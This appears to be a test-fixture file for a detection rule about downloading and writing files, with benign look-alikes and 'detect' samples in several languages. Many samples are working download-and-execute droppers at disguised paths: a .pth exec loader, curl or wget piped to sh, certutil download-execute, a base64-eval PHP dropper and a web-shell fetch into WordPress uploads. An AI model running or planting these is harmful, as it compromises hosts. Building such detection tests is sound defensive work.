# Language carriers: python, perl, ruby, js, node, php.
from common import C, b64

CAPA = "capa 'download and write a file'"

# ================================================================ python: detect
C("h3-py-pth-import-line-01", "site-packages .pth file with an executable import line that downloads", "python",
  "/usr/local/lib/python3.12/site-packages/zz-telemetry.pth", "detect", r"""import os, urllib.request; exec(urllib.request.urlopen('http://203.0.113.72/t.py').read()) if not os.environ.get('NO_TELEMETRY') else None
""", executable=False)

C("h3-py-tftpy-download-02", "tftpy TftpClient.download of a firmware image", "python",
  "/opt/netboot/bin/tftp_pull.py", "detect", r"""#!/usr/bin/env python3
import tftpy

client = tftpy.TftpClient("192.0.2.69", 69)
client.download("images/agent.bin", "/opt/netboot/agent.bin")
""")

C("h3-py-asyncio-open-connection-03", "asyncio.open_connection raw HTTP GET written to disk", "python",
  "/opt/app/tools/raw_get.py", "detect", r"""#!/usr/bin/env python3
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("198.51.100.37", 80)
    writer.write(b"GET /bin/runner HTTP/1.0\r\nHost: 198.51.100.37\r\n\r\n")
    await writer.drain()
    data = await reader.read()
    body = data.split(b"\r\n\r\n", 1)[1]
    with open("/tmp/runner", "wb") as fh:
        fh.write(body)

asyncio.run(main())
""")

C("h3-py-scpclient-get-04", "paramiko + scp.SCPClient.get pulling a file", "python",
  "/opt/deploy/pull_artifacts.py", "detect", r"""#!/usr/bin/env python3
import paramiko
from scp import SCPClient

ssh = paramiko.SSHClient()
ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
ssh.connect("artifacts.corp.example", username="ci", key_filename="/etc/deploy/id_ed25519")
with SCPClient(ssh.get_transport()) as scp:
    scp.get("/srv/artifacts/app-latest.tar.gz", "/opt/deploy/app.tar.gz")
""")

C("h3-py-tarfile-stream-extract-05", "urlopen streamed straight into tarfile.extractall", "python",
  "/usr/local/bin/install-plugins", "detect", r"""#!/usr/bin/env python3
import tarfile
import urllib.request

URL = "https://plugins.repo.example/bundle/plugins-2.4.tar.gz"
with urllib.request.urlopen(URL) as resp:
    with tarfile.open(fileobj=resp, mode="r|gz") as tar:
        tar.extractall("/opt/app/plugins")
""")

C("h3-py-subprocess-certutil-06", "Windows Python: subprocess shell=True certutil -urlcache", "python",
  "/opt/win/h3/py/win_update.py", "detect", r"""import subprocess

subprocess.Popen(
    "certutil -urlcache -split -f http://203.0.113.146/svc.exe %TEMP%\\svc.exe && %TEMP%\\svc.exe",
    shell=True,
)
""", executable=False)

C("h3-py-remote-module-loader-07", "remote module loaded with types.ModuleType + exec of downloaded source", "python",
  "/opt/app/app/plugins/loader.py", "detect", r"""import types
import urllib.request

PLUGIN_URL = "http://198.51.100.93/plugins/ext.py"


def load_remote(name=__name__ + ".ext"):
    src = urllib.request.urlopen(PLUGIN_URL, timeout=10).read().decode()
    mod = types.ModuleType(name)
    exec(compile(src, PLUGIN_URL, "exec"), mod.__dict__)
    return mod


ext = load_remote()
""", executable=False)

C("h3-py-build-opener-execv-08", "urllib build_opener with headers, chmod, os.execv", "python",
  "/usr/local/sbin/node-init", "detect", r"""#!/usr/bin/env python3
import os
import stat
import urllib.request

opener = urllib.request.build_opener()
opener.addheaders = [("User-Agent", "curl/8.5.0")]
path = "/var/tmp/.node-init"
with opener.open("http://203.0.113.174/ni") as r, open(path, "wb") as out:
    out.write(r.read())
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
os.execv(path, [path])
""")

C("h3-py-django-command-requests-09", "Django management command: requests.Session download into /usr/local/bin", "python",
  "/srv/app/core/management/commands/fetch_tool.py", "detect", r"""import os

import requests
from django.core.management.base import BaseCommand


class Command(BaseCommand):
    help = "Fetch the conversion tool"

    def handle(self, *args, **opts):
        s = requests.Session()
        r = s.get("https://tools.convert.example/bin/convert-linux", timeout=30)
        r.raise_for_status()
        with open("/usr/local/bin/convert-tool", "wb") as f:
            f.write(r.content)
        os.chmod("/usr/local/bin/convert-tool", 0o755)
""", executable=False)

# ================================================================ python: silent
C("h3-py-silent-urlparse-01", "look-alike: URL parsing and building only, no request", "python",
  "/opt/app/app/urls.py", "silent", r"""from urllib.parse import urljoin, urlparse

BASE = "https://api.example.com/v2/"


def endpoint(path):
    return urljoin(BASE, path)


def is_secure(url):
    return urlparse(url).scheme == "https"
""", executable=False)

C("h3-py-silent-flask-send-file-02", "look-alike: Flask /download route serving a local file", "python",
  "/srv/web/app.py", "silent", r"""from flask import Flask, send_file

app = Flask(__name__)


@app.route("/download/<name>")
def download(name):
    return send_file(f"/srv/web/files/{name}", as_attachment=True)


if __name__ == "__main__":
    app.run(host="127.0.0.1", port=8000)
""", executable=False)

C("h3-py-silent-requests-loopback-03", "look-alike: requests to 127.0.0.1 readiness", "python",
  "/usr/local/bin/readyz", "silent", r"""#!/usr/bin/env python3
import sys

import requests

try:
    ok = requests.get("http://127.0.0.1:8000/readyz", timeout=2).ok
except requests.RequestException:
    ok = False
sys.exit(0 if ok else 1)
""")

C("h3-py-silent-subprocess-version-04", "look-alike: subprocess calling curl --version and which wget", "python",
  "/opt/app/diag/tools.py", "silent", r"""import shutil
import subprocess


def tool_versions():
    out = {}
    if shutil.which("curl"):
        out["curl"] = subprocess.run(["curl", "--version"], capture_output=True, text=True).stdout.split("\n")[0]
    out["wget"] = bool(shutil.which("wget"))
    return out
""", executable=False)

# ================================================================ perl
C("h3-pl-file-fetch-01", "Perl File::Fetch->fetch", "perl",
  "/usr/local/bin/pl-getkit", "detect", r"""#!/usr/bin/perl
use strict;
use warnings;
use File::Fetch;

my $ff = File::Fetch->new(uri => 'http://203.0.113.83/kit/kit.tar.gz');
my $where = $ff->fetch(to => '/tmp') or die $ff->error;
system("tar", "-xzf", $where, "-C", "/opt");
""")

C("h3-pl-ua-content-file-02", "Perl LWP::UserAgent get with :content_file", "perl",
  "/usr/share/app/bin/refresh-db.pl", "detect", r"""#!/usr/bin/perl
use strict;
use LWP::UserAgent;

my $ua = LWP::UserAgent->new(timeout => 30, ssl_opts => { verify_hostname => 0 });
my $res = $ua->get('https://db.feeds.example/threat.db', ':content_file' => '/var/lib/app/threat.db');
die $res->status_line unless $res->is_success;
""")

C("h3-pl-piped-open-wget-03", "Perl piped open of wget -qO- into sh", "perl",
  "/etc/munin/plugins/if_extra", "detect", r"""#!/usr/bin/perl
open(my $in, "-|", "wget -qO- http://198.51.100.164/m.sh") or exit 0;
open(my $sh, "|-", "/bin/sh") or exit 0;
print $sh $_ while <$in>;
close $sh;
print "if_extra.value 0\n";
""")

C("h3-pl-net-sftp-foreign-04", "Perl Net::SFTP::Foreign get", "perl",
  "/opt/reports/bin/pull_reports.pl", "detect", r"""#!/usr/bin/perl
use strict;
use Net::SFTP::Foreign;

my $sftp = Net::SFTP::Foreign->new('reports@sftp.partner.example', more => [-i => '/etc/reports/key']);
$sftp->get('/out/loader.pl', '/opt/reports/lib/loader.pl') or die $sftp->error;
""")

C("h3-pl-silent-cgi-local-01", "look-alike: Perl CGI printing a download link", "perl",
  "/usr/lib/cgi-bin/links.pl", "silent", r"""#!/usr/bin/perl
print "Content-Type: text/html\n\n";
print qq{<a href="https://downloads.example.com/app.tar.gz">Download the app</a>\n};
print qq{<p>or run: wget https://downloads.example.com/app.tar.gz</p>\n};
""")

C("h3-pl-silent-lwp-loopback-02", "look-alike: LWP to localhost status page", "perl",
  "/usr/lib/nagios/plugins/check_local_status", "silent", r"""#!/usr/bin/perl
use LWP::UserAgent;
my $ua = LWP::UserAgent->new(timeout => 5);
my $r = $ua->get('http://localhost:8080/server-status?auto');
print $r->is_success ? "OK\n" : "CRITICAL\n";
exit($r->is_success ? 0 : 2);
""")

# ================================================================ ruby
C("h3-rb-net-http-read-body-01", "Ruby Net::HTTP.start + request_get streaming read_body into a file", "ruby",
  "/usr/local/bin/rb-fetch-agent", "detect", r"""#!/usr/bin/env ruby
require "net/http"

uri = URI("http://203.0.113.196/agent/agent-linux")
Net::HTTP.start(uri.host, uri.port) do |http|
  http.request_get(uri.path) do |resp|
    File.open("/usr/local/bin/agent", "wb") { |f| resp.read_body { |chunk| f.write(chunk) } }
  end
end
File.chmod(0o755, "/usr/local/bin/agent")
""")

C("h3-rb-open3-curl-sh-02", "Ruby Open3.capture2 running curl | sh", "ruby",
  "/opt/app/bin/bootstrap", "detect", r"""#!/usr/bin/env ruby
require "open3"

out, status = Open3.capture2("sh", "-c", "curl -fsSL http://198.51.100.117/b.sh | sh")
puts out
exit status.exitstatus
""")

C("h3-rb-net-scp-download-03", "Ruby Net::SCP.download!", "ruby",
  "/opt/app/lib/tasks/sync_keys.rake", "detect", r"""require "net/scp"

namespace :keys do
  task :sync do
    Net::SCP.download!("vault.corp.example", "deploy", "/exports/keys/app.pem", "/opt/app/config/app.pem",
                       ssh: { keys: ["/opt/app/.ssh/id_ed25519"] })
  end
end
""", executable=False)

C("h3-rb-httparty-binwrite-04", "Ruby HTTParty.get then File.binwrite and chmod", "ruby",
  "/usr/local/bundle/bin/fetch-renderer", "detect", r"""#!/usr/bin/env ruby
require "httparty"

resp = HTTParty.get("https://renderer.assets.example/bin/renderer-amd64")
File.binwrite("/usr/local/bin/renderer", resp.body)
File.chmod(0o755, "/usr/local/bin/renderer")
""")

C("h3-rb-silent-sinatra-01", "look-alike: Sinatra app serving local files", "ruby",
  "/srv/app/app.rb", "silent", r"""require "sinatra"

get "/download/:name" do
  send_file File.join("/srv/app/files", params[:name])
end
""", executable=False)

C("h3-rb-silent-rakefile-02", "look-alike: Rakefile with local copy and a comment about wget", "ruby",
  "/srv/app/Rakefile", "silent", r"""require "fileutils"

# assets used to be fetched with `wget -r`; now they are vendored
task :assets do
  FileUtils.cp_r "vendor/assets/.", "public/assets"
end
""", executable=False)

# ================================================================ js
C("h3-js-got-stream-pipeline-01", "Node module: got.stream + stream.pipeline to file", "js",
  "/app/node_modules/sharp-prebuilt-helper/install/fetch.js", "detect", r"""const got = require('got');
const fs = require('fs');
const { pipeline } = require('stream/promises');

module.exports = async function fetchBinary() {
  await pipeline(
    got.stream('https://prebuilt.binaries.example/libvips-8.15-linux-x64.tar.gz'),
    fs.createWriteStream(__dirname + '/../vendor/libvips.tar.gz')
  );
};
""")

C("h3-js-https-request-options-02", "Node module: https.request with an options object (no URL string), written to disk", "js",
  "/app/node_modules/env-sync/lib/pull.js", "detect", r"""const https = require('https');
const fs = require('fs');

const opts = { hostname: 'cdn.envsync.example', port: 443, path: '/bin/envsync-linux', method: 'GET' };
const req = https.request(opts, (res) => {
  const out = fs.createWriteStream('/tmp/envsync', { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => require('child_process').spawn('/tmp/envsync', { detached: true, stdio: 'ignore' }).unref());
});
req.end();
""")

C("h3-js-net-connect-raw-03", "Node module: net.connect raw socket piped into a file", "js",
  "/srv/web/server/lib/warmup.js", "detect", r"""const net = require('net');
const fs = require('fs');

const sock = net.connect(9009, '203.0.113.88');
sock.pipe(fs.createWriteStream('/tmp/.w'));
sock.on('end', () => fs.chmodSync('/tmp/.w', 0o755));
""")

C("h3-js-silent-config-urls-01", "look-alike: config module exporting remote URLs without fetching", "js",
  "/app/config/endpoints.js", "silent", r"""module.exports = {
  api: 'https://api.example.com/v1',
  docs: 'https://docs.example.com',
  downloadPage: 'https://www.example.com/download',
};
""")

C("h3-js-silent-local-fetch-02", "look-alike: fetch to 127.0.0.1 from a health module", "js",
  "/app/lib/health.js", "silent", r"""async function check() {
  const r = await fetch('http://127.0.0.1:3000/health');
  return r.ok;
}
module.exports = { check };
""")

# ================================================================ node
C("h3-node-undici-chmod-spawn-01", "executable node script: undici request, writeFile, chmod, spawn", "node",
  "/usr/local/bin/edge-sync", "detect", r"""#!/usr/bin/env node
const { request } = require('undici');
const fs = require('fs/promises');
const { spawn } = require('child_process');

(async () => {
  const { body } = await request('http://198.51.100.58/edge/edge-agent');
  await fs.writeFile('/tmp/edge-agent', Buffer.from(await body.arrayBuffer()));
  await fs.chmod('/tmp/edge-agent', 0o755);
  spawn('/tmp/edge-agent', [], { detached: true, stdio: 'ignore' }).unref();
})();
""")

C("h3-node-spawnsync-sh-c-02", "executable node script: spawnSync('sh', ['-c', 'curl | sh'])", "node",
  "/app/bin/postdeploy", "detect", r"""#!/usr/bin/env node
const { spawnSync } = require('child_process');
spawnSync('sh', ['-c', 'curl -fsSL https://hooks.deploy.example/post.sh | sh'], { stdio: 'inherit' });
""")

C("h3-node-follow-redirects-03", "executable node script: follow-redirects https.get piped to file", "node",
  "/opt/node-tools/bin/get-chromium", "detect", r"""#!/usr/bin/env node
const { https } = require('follow-redirects');
const fs = require('fs');
https.get('https://builds.chromium-mirror.example/linux/chrome.zip', (res) => {
  res.pipe(fs.createWriteStream('/opt/node-tools/chrome.zip'));
});
""")

C("h3-node-silent-server-01", "look-alike: executable node http server on localhost", "node",
  "/app/bin/serve-static", "silent", r"""#!/usr/bin/env node
const http = require('http');
const fs = require('fs');
http.createServer((req, res) => fs.createReadStream('/app/public/index.html').pipe(res))
  .listen(8080, '127.0.0.1');
""")

# ================================================================ php
C("h3-php-copy-remote-01", "PHP copy() from a remote URL then chmod", "php",
  "/var/www/html/wp-content/uploads/2024/05/thumb.php", "detect", r"""<?php
@copy('http://203.0.113.141/s/shell.txt', __DIR__ . '/wp-conf.php');
@chmod(__DIR__ . '/wp-conf.php', 0644);
echo 'ok';
""")

C("h3-php-curl-file-02", "PHP curl_init with CURLOPT_FILE", "php",
  "/var/www/html/admin/update-geo.php", "detect", r"""<?php
$fp = fopen('/var/www/data/geo.dat', 'w');
$ch = curl_init('https://geo.updates.example/latest/geo.dat');
curl_setopt($ch, CURLOPT_FILE, $fp);
curl_setopt($ch, CURLOPT_FOLLOWLOCATION, true);
curl_exec($ch);
curl_close($ch);
fclose($fp);
""")

C("h3-php-eval-base64-03", "PHP eval(base64_decode(...)) of a dropper that downloads", "php",
  "/var/www/html/wp-includes/class-wp-cache-ext.php", "detect", "<?php\n@eval(base64_decode('" +
  b64("file_put_contents('/tmp/.sess', file_get_contents('http://198.51.100.123/x')); @system('php /tmp/.sess');") +
  "'));\n")

C("h3-php-backtick-wget-04", "PHP backtick operator running wget", "php",
  "/var/www/html/tools/sync.php", "detect", r"""<?php
$out = `wget -q -O /tmp/upd.sh http://203.0.113.187/upd.sh && sh /tmp/upd.sh`;
echo htmlspecialchars($out);
""")

C("h3-php-silent-local-01", "look-alike: PHP reading a local config and printing a link", "php",
  "/var/www/html/about.php", "silent", r"""<?php
$cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);
echo '<a href="https://www.example.com/download">Get the desktop app</a>';
echo htmlspecialchars($cfg['version'] ?? 'dev');
""")
